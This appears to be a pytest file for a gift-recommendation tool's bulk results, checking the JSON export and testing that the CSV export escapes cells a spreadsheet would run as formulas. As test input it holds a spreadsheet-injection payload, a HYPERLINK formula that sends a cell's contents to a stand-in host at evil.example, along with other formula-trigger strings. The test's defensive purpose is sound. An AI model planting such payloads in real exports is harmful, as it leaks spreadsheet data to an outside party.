"""The result: its JSON shape, written in slices, and its CSV, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import orjson

from giftgenius.bulk import BulkResult, PersonResult
from tests.giftgenius.bulk.support import (
    SMALL,
    generated_csv,
    make_csv,
    run,
)


async def test_to_json_shape() -> None:
    result, _progress = await run(SMALL + "Nobody,Sales,,\n")
    data = result.to_json()
    assert data["occasion"] == "holiday"
    assert data["budgetPerPerson"] == 50.0
    assert len(data["people"]) == 3
    assert data["people"][0]["interests"] == ["board games", "chess"]
    assert data["problems"] == [{"row": 5, "reason": data["problems"][0]["reason"]}]
    summary = data["summary"]
    assert summary["people"] == 3
    assert summary["withGifts"] == 3
    assert summary["problems"] == 1
    assert summary["departments"] == {"Engineering": 2, "Finance": 1}
    assert {"interest": "coffee", "count": 1} in summary["topInterests"]


async def test_the_json_written_in_slices_is_the_whole_document() -> None:
    """`to_json_bytes` serialises people a slice at a time: the bytes are `to_json`'s exactly,
    across several slices, with rows that had problems."""
    text = generated_csv(1_200) + "Nobody,,,\n"
    result, _ = await run(text)
    assert len(result.people) > 2 * 500, "more than two slices"
    assert result.problems, "a problem row, after the people"
    assert result.to_json_bytes() == orjson.dumps(result.to_json())


# --- CSV output ----------------------------------------------------------------------------------------


async def test_to_csv_round_trips() -> None:
    text = make_csv(
        [
            ['Smith, "Jo"', "R&D, Labs", "coffee; tea", "40"],
            ["Penny", "Finance", "coffee", "2"],
        ]
    )
    result, _progress = await run(text)
    rows = list(csv.reader(io.StringIO(result.to_csv())))
    assert rows[0] == [
        "name",
        "department",
        "gift_1",
        "gift_1_price",
        "gift_2",
        "gift_2_price",
        "gift_3",
        "gift_3_price",
        "note",
    ]
    assert len(rows) == 3
    first, second = rows[1], rows[2]
    assert first[:2] == ['Smith, "Jo"', "R&D, Labs"]
    gifts = result.people[0].gifts
    assert first[2:8] == [value for gift in gifts for value in (gift["name"], f"{gift['price']:.2f}")]
    assert first[8] == ""
    assert second[:2] == ["Penny", "Finance"]
    assert second[2:8] == [""] * 6
    assert second[8] == result.people[1].note


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_to_csv_neutralises_cells_a_spreadsheet_would_run() -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    result, _progress = await run(make_csv([[link, "+cmd", "+cmd; tea", "40"], ["@Bo", "-Ops", "tea", "1"]]))
    rows = list(csv.reader(io.StringIO(result.to_csv())))
    assert [row[:2] for row in rows[1:]] == [["'" + link, "'+cmd"], ["'@Bo", "'-Ops"]]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert [float(price) for price in rows[1][3:8:2]] == [gift["price"] for gift in result.people[0].gifts]
    assert result.people[0].name == link, "only the export is neutralised; the JSON keeps the input"


def test_to_csv_neutralises_gift_names_and_notes() -> None:
    gift = {"name": "\tTab", "price": 5.0, "category": "x", "reason": "y"}
    person = PersonResult("\rAda", "Eng", ("tea",), 9.0, [gift], note="-1 for fun")
    result = BulkResult([person], [], "holiday", 9.0, {"Eng": 1}, {"tea": 1})
    assert result.to_csv().split("\n")[1] == "'\rAda,Eng,'\tTab,5.00,'-1 for fun"
